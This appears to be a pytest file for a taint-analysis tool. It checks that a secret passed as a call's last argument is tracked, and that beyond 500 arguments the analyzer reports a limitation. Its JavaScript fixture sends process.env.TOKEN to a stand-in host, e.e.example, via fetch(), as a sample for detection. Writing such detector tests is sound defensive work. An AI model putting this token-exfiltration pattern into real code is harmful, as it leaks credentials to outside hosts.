"""Is a value that stands behind more arguments than the engine tells apart lost in silence? No: that is a limitation."""

from __future__ import annotations

from pathlib import Path

import pytest

import analyzer
from analyzer.report.document import ReportDocument


def call_with(folder: Path, before: int) -> ReportDocument:
    """A scan of a call whose last argument, behind `before` others, is sent."""
    names = [f"p{number}" for number in range(before + 1)]
    arguments = [f"{number}" for number in range(before)] + ["process.env.TOKEN"]
    file = folder / "a.js"
    file.write_text(f"function send({','.join(names)}) {{ fetch('https://e.example/' + {names[-1]}); }}\nsend({','.join(arguments)});\n")
    return analyzer.scan(str(file))


@pytest.mark.parametrize("before", [0, 300])
def test_a_value_behind_many_arguments_is_followed(tmp_path: Path, before: int) -> None:
    result = call_with(tmp_path, before).result
    assert [finding.source.name for finding in result.findings] == ["TOKEN"]
    assert not result.coverage.limitations


def test_a_value_behind_too_many_arguments_is_a_limitation(tmp_path: Path) -> None:
    assert [each.kind for each in call_with(tmp_path, 700).result.coverage.limitations] == ["argument beyond the 500th"]
